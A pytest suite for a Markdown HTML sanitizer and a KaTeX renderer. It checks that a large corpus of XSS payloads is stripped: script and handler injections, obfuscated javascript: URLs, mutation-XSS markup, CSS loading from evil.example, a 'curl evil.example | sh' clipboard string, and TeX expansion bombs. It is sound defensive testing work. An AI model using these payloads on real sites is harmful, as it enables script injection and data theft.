"""What a page may show: scripts, handlers, addresses that are programs, styles that load, markup that hides markup."""

from __future__ import annotations

import html
import logging
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import markdown
import pytest
from archmarkdown.safe_html import TAGS, clean

ROOT = Path(__file__).resolve().parents[2]

ATTEMPTS = {
    # Scripts.
    "a script": "<script>alert(1)</script>",
    "a script of another host": '<script src="https://evil.example/x.js"></script>',
    "a script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "a script never closed": "<div><script>alert(1)",
    "a script inside a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script with a slash": "<script/x>alert(1)</script>",
    "a script in a drawing": "<svg><script>alert(1)</script></svg>",
    "a script in a drawing's text": "<svg><desc><script>alert(1)</script></desc></svg>",
    "a script in MathML": "<math><mi><script>alert(1)</script></mi></math>",
    "a module": '<script type="module">import "x"</script>',
    "an import map": '<script type="importmap">{}</script>',
    "rules for loading ahead": '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
    # Handlers.
    "a handler": '<img src="x.png" alt="" onerror="alert(1)">',
    "a handler without quotes": "<img src=x.png alt=x onerror=alert(1)>",
    "a handler after a slash": '<svg/onload="alert(1)">',
    "a handler with a tab": "<p\tonclick\t=\t'alert(1)'>x</p>",
    "a handler in a drawing": '<svg><rect onclick="alert(1)" width="1" height="1"/></svg>',
    "a handler of an animation": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "a handler on opening": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "a handler of a field": '<input type="checkbox" onfocus="alert(1)" autofocus>',
    "a handler by an attribute list": "# Title {onclick=alert(1)}",
    "a handler on a paragraph by an attribute list": "Some text.\n{: onmouseover='alert(1)' }",
    "a handler on an image by an attribute list": '![x](y.png){ onerror="alert(1)" }',
    # Addresses.
    "a program as address": "[x](javascript:alert(1))",
    "a program in capitals": "[x](JaVaScRiPt:alert(1))",
    "a program in entities": "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "a program in hexadecimal entities": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;cript:alert(1)">x</a>',
    "a program in long entities": '<a href="&#0000106avascript:alert(1)">x</a>',
    "a program in entities without end": '<a href="&#106avascript&#58alert(1)">x</a>',
    "a program with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "a program with an entity for a tab": '<a href="java&Tab;script&colon;alert(1)">x</a>',
    "a program with a line break": '<a href="java&NewLine;script:alert(1)">x</a>',
    "a program after a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "a program after a space": '<a href=" javascript:alert(1)">x</a>',
    "a program in angle brackets": "<javascript:alert(1)>",
    "a program by a label": "[x][y]\n\n[y]: javascript:alert(1)",
    "a program by an attribute list": "[x](y.md){ href='javascript:alert(1)' }",
    "a program for VBScript": '<a href="vbscript:msgbox(1)">x</a>',
    "a document in an address": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a document in an image": '<img alt="" src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    "a blob": '<a href="blob:https://evil.example/1">x</a>',
    "a file": '<a href="file:///etc/passwd">x</a>',
    "the source of a page": '<a href="view-source:https://example.org">x</a>',
    "a program in a drawing's link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "a program in a drawing's plain link": '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "a program in MathML": '<math><mtext href="javascript:alert(1)">x</mtext></math>',
    "a program by an animation": '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    "a program in a set of images": '<img alt="" src="x.png" srcset="javascript:alert(1) 2x">',
    "a program in a citation": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    # What embeds, submits or leads away.
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a frame's document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="x.swf"></object>',
    "an embedded document": '<embed src="x.swf">',
    "a portal": '<portal src="https://evil.example"></portal>',
    "a form": '<form action="https://evil.example"><input type="checkbox"></form>',
    "a field for a password": '<input type="password" name="password">',
    "a button that submits": '<button formaction="javascript:alert(1)">x</button>',
    "another base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "a linked stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "a resource loaded ahead": '<link rel="dns-prefetch" href="https://evil.example">',
    "a pinging link": '<a href="x.md" ping="https://evil.example">x</a>',
    "a video": '<video src="https://evil.example/x.mp4" autoplay></video>',
    "an applet": '<applet code="x"></applet>',
    "a template": "<template><script>alert(1)</script></template>",
    "a shadow": '<div><template shadowrootmode="open"><slot></slot></template></div>',
    # Styles.
    "a stylesheet": "<style>@import url(https://evil.example/x.css);</style>",
    "a stylesheet that reads a field": "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "a stylesheet in a drawing": "<svg><style>*{background:url(https://evil.example)}</style></svg>",
    "a style that loads": '<p style="background-image:url(https://evil.example/x)">x</p>',
    "a style that loads, escaped": r'<p style="background-image:\75rl(https://evil.example/x)">x</p>',
    "a style that loads by a variable": '<p style="--v:url(https://evil.example/x)">x</p>',
    "a style that loads a set": "<p style=\"content:image-set('https://evil.example/x' 1x)\">x</p>",
    "a style that calculates": '<p style="width:expression(alert(1))">x</p>',
    "a style that binds": '<p style="-moz-binding:url(https://evil.example)">x</p>',
    "a style that covers the page": '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px">x</div>',
    "a style by an attribute list": "Text.\n{: style='background:url(https://evil.example)' }",
    "a paint that loads": '<svg><rect fill="url(https://evil.example/x.svg#a)" width="1" height="1"/></svg>',
    "a mask that loads": '<svg><rect mask="url(//evil.example/x.svg#a)" width="1" height="1"/></svg>',
    # Drawings that hold other things.
    "a foreign object": "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "a drawing used from elsewhere": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "an image in a drawing": '<svg><image href="https://evil.example/x.png"/></svg>',
    "a filter that loads": '<svg><filter id="f"><feImage href="https://evil.example/x.png"/></filter></svg>',
    "an animation": '<svg><animate attributeName="x" from="0" to="1" dur="1s"/></svg>',
    # Markup that parses one way here and another way there.
    "a comment that ends early": "<div><!--><img src=x.png alt=x onerror=alert(1)>--></div>",
    "a comment with a bang": "<div><!--x--!><img src=x.png alt=x onerror=alert(1)>--></div>",
    "a text area": "<div><textarea></textarea><img src=x.png alt=x onerror=alert(1)></textarea></div>",
    "plain text to the end": "<div><plaintext></div>",
    "no script": '<noscript><p title="</noscript><img src=x.png onerror=alert(1)>">x</p></noscript>',
    "MathML and a style": '<math><mtext><table><mglyph><style><img src=x.png onerror="alert(1)"></style></math>',
    "a drawing and a style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "a form in MathML": "<math><mtext><form><mglyph><style></math><img src=x onerror=alert(1)></style></form></math>",
    "an annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "character data": "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg><img src=x onerror=alert(1)>",
    "a null inside a tag": "<div><scr\0ipt>alert(1)</scr\0ipt></div>",
    # Things the site's own scripts look for.
    "the theme's settings": '<div id="__config">{"base":"https://evil.example"}</div>',
    "the theme's search": '<input id="__search" type="checkbox" checked>',
    "the script of the search": '<button data-search="//evil.example/x.js">x</button>',
    "the script of the search on a text": '<p data-search="../page.md">x</p>',
    "a module from elsewhere": '<div data-explorable="../../../page">x</div>',
    "a text to be copied": '<pre><code data-clipboard-text="curl evil.example | sh">pip install x</code></pre>',
    "a part of the theme": '<div data-md-component="search">x</div>',
}

_RUNNING = {"script", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "animate", "set", "use"}
_RUNNING |= {"template", "video", "audio", "button", "image", "foreignobject", "portal", "applet", "annotation-xml"}
_HARMLESS = ("java   script:", "<p>{onclick", "# Title", "&lt;")
"""What Markdown itself makes of an attempt: text, or an address that leads nowhere."""
_EXTENSIONS = ["attr_list", "md_in_html", "tables", "archmarkdown.safe_html"]


class Seen(HTMLParser):
    """What of a text a browser would act on."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _RUNNING or tag not in {name.lower() for name in TAGS}:
            self.bad.append(tag)
        for name, value in attrs:
            address = html.unescape(value or "")
            address = address.lstrip("".join(map(chr, range(33)))).translate({9: None, 10: None, 13: None}).casefold()
            if name.startswith("on") or name in ("ping", "srcdoc", "formaction", "action", "xlink:href"):
                self.bad.append(name)
            if address.startswith(("javascript:", "vbscript:", "data:", "file:", "blob:", "view-source:", "about:")):
                self.bad.append(f"{name}={value}")
            if "evil.example" in address and name not in ("href", "title", "alt"):
                self.bad.append(f"{name}={value}")
            if (tag, name) == ("input", "type") and address not in ("checkbox", "radio"):
                self.bad.append(f"{name}={value}")
            if name == "data-explorable" and "/" in address:
                self.bad.append(f"{name}={value}")
            if (name == "id" and address.startswith("__")) or name.startswith(("data-md-", "data-search", "data-clip")):
                self.bad.append(f"{name}={value}")


@pytest.mark.parametrize("source", ATTEMPTS.values(), ids=ATTEMPTS.keys())
def test_an_attempt_is_taken_out_and_told(source: str, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        shown = markdown.markdown(source, extensions=_EXTENSIONS)

    assert Seen(shown).bad == []
    told = [record.message for record in caplog.records]
    assert all("is not allowed in a page and was removed" in message for message in told)
    assert told or any(harmless in shown for harmless in _HARMLESS)
    if source.startswith("<") and "<javascript:" not in source:
        cleaned = clean(source)
        assert Seen(cleaned.html).bad == []
        assert cleaned.removed


@pytest.mark.parametrize(
    "source",
    [
        '<p style="--v:0.350; height:1em">x</p>',
        '<a href="https://example.org/?a=1&amp;b=2#c" rel="noopener">x</a>',
        '<a href="mailto:someone@example.org">x</a>',
        '<input type="radio" checked="checked" id="__tabbed_1_1" name="__tabbed_1"><label for="__tabbed_1_1">x</label>',
        '<svg viewBox="0 0 1 1" xmlns="http://www.w3.org/2000/svg"><clipPath id="c"><rect width="1" height="1"/>'
        '</clipPath><path d="M0 0" clip-path="url(#c)" marker-end="url(#m)" fill="var(--x)"/></svg>',
        '<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mrow><mi mathvariant="normal">x</mi></mrow>'
        '<annotation encoding="application/x-tex">x</annotation></semantics></math>',
        "<details open><summary>x</summary><p>y</p></details>",
        "<table><thead><tr><th>a<th>b</thead></table>",
        "<p>1 &lt; 2 &amp; 3</p><br><hr />",
    ],
)
def test_what_pages_need_is_kept_without_a_word(source: str) -> None:
    assert clean(source).removed == ()


def test_a_warning_names_file_and_line(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        markdown.markdown("One.\n\nTwo <b onclick='x'>three</b>.", extensions=_EXTENSIONS)

    assert [record.message for record in caplog.records] == [
        'page:3: `onclick="x"` of `<b>` is not allowed in a page and was removed'
    ]


def test_a_tag_that_a_formula_hides_is_told_with_its_cause(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        markdown.markdown('For $0<a$ it is least.\n\n<div markdown="block">\n\n*x*\n\n</div>', extensions=_EXTENSIONS)

    assert "as in `$0<a$`" in caplog.text


FORMULAS = {
    "a program as address": (r"\href{javascript:alert(1)}{x}", "href"),
    "a plain address": (r"\url{https://evil.example}", "url"),
    "an id of the theme": (r"\htmlId{__config}{x}", "HTML extension is disabled"),
    "a class of the theme": (r"\htmlClass{md-overlay}{x}", "HTML extension is disabled"),
    "a style": (r"\htmlStyle{position:fixed}{x}", "HTML extension is disabled"),
    "data for a script": (r"\htmlData{md-component=search}{x}", "HTML extension is disabled"),
    "a picture": (r"\includegraphics{https://evil.example/x.png}", "includegraphics"),
    "a macro that doubles": (r"\def\a{\a\a}\a", "Too many expansions"),
    "a macro that calls another": (r"\def\a{\b\b}\def\b{\a\a}\a", "Too many expansions"),
    "a colour that loads": (r"\color{url(https://evil.example)}x", "Invalid color"),
    "a colour that places": (r"\colorbox{red;position:fixed}{x}", "Invalid color"),
}


@pytest.mark.parametrize(("tex", "message"), FORMULAS.values(), ids=FORMULAS.keys())
def test_a_formula_does_nothing_but_maths(tex: str, message: str, tmp_path: Path) -> None:
    from archmarkdown.maths import Renderer, TeXError

    shown, refused = "", ""
    try:
        shown = Renderer(tmp_path / "maths.sqlite").render(tex, display=False)
    except TeXError as error:
        refused = str(error)

    if refused:
        assert message in refused
    else:  # KaTeX shows what it does not trust in red, as text
        assert f"\\{message}" in shown
        assert Seen(shown.replace(f"\\{message}", "")).bad == []
        assert "<a " not in shown
        assert "<img" not in shown


def test_a_formula_is_no_larger_than_a_page(tmp_path: Path) -> None:
    from archmarkdown.maths import Renderer

    shown = Renderer(tmp_path / "maths.sqlite").render(r"\rule{99999em}{99999em}", display=False)

    assert "60em" in (drawn := shown.partition('class="katex-html"')[2])
    assert "99999em" not in drawn


HOSTILE_TEX = {
    "a formula of a whole page": ("x_{12} + " * 1000, "the formula has 9000 characters; divide it"),
    "a table of thousands of cells": (r"\begin{matrix}" + "1&" * 10_000 + r"\end{matrix}", "divide it: at most 5000"),
    "indices of indices": ("".join(f"{{{'abcdefg'[n * n % 7]}^" for n in range(1000)) + "}" * 1000, "call stack"),
    "fractions within fractions": (r"\frac{1}{" * 450 + "x" + "}" * 450, "call stack"),
    "brackets within brackets": (r"\left(" * 700, "call stack"),
    "tables within tables": (r"\begin{matrix}" * 300, "call stack"),
}


@pytest.mark.parametrize(("tex", "message"), HOSTILE_TEX.values(), ids=HOSTILE_TEX.keys())
def test_a_formula_ends_no_build(tex: str, message: str, tmp_path: Path) -> None:
    from archmarkdown.maths import Renderer, TeXError

    with pytest.raises(TeXError, match=message):
        Renderer(tmp_path / "maths.sqlite").render(tex, display=True)


def test_a_page_that_becomes_too_large_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    from archmarkdown import safe_html

    monkeypatch.setattr(safe_html, "MOST_HTML", 1_000)
    with pytest.raises(safe_html.TooLargeError, match=r"page: the page becomes 1110 characters of HTML; divide it: at"):
        markdown.markdown("- x\n" * 100, extensions=["archmarkdown.safe_html"])


def test_a_formula_leaves_others_as_they_are(tmp_path: Path) -> None:
    from archmarkdown.maths import Renderer

    renderer = Renderer(tmp_path / "maths.sqlite")
    own = renderer.render(r"\gdef\mathbf#1{\text{owned}}\mathbf{x}", display=False)

    assert ">owned<" in own
    assert "owned" not in renderer.render(r"\mathbf{z}", display=False)


def test_the_site_ends_with_it() -> None:
    from mkdocs.config import load_config

    assert load_config(str(ROOT / "mkdocs.yml")).markdown_extensions[-1] == "archmarkdown.safe_html"


def test_nothing_runs_after_it() -> None:
    """What is registered with a lower priority would run on cleaned text, and could undo it."""
    from mkdocs.config import load_config

    settings = load_config(str(ROOT / "mkdocs.yml"))
    converter = markdown.Markdown(extensions=settings.markdown_extensions, extension_configs=settings.mdx_configs or {})
    order: list[Any] = list(converter.postprocessors)

    assert type(order[-1]).__module__ == "archmarkdown.safe_html"


def test_markup_that_ends_pythons_parser_is_read_as_a_comment() -> None:
    """`<![x` made the library raise an `AssertionError`, so that a page could end a build without a message."""
    found = clean("<p onclick=x>one</p><![TA[ <b>two</b> ]]>")

    assert "onclick" not in found.html
    assert any("onclick" in removed for removed in found.removed)
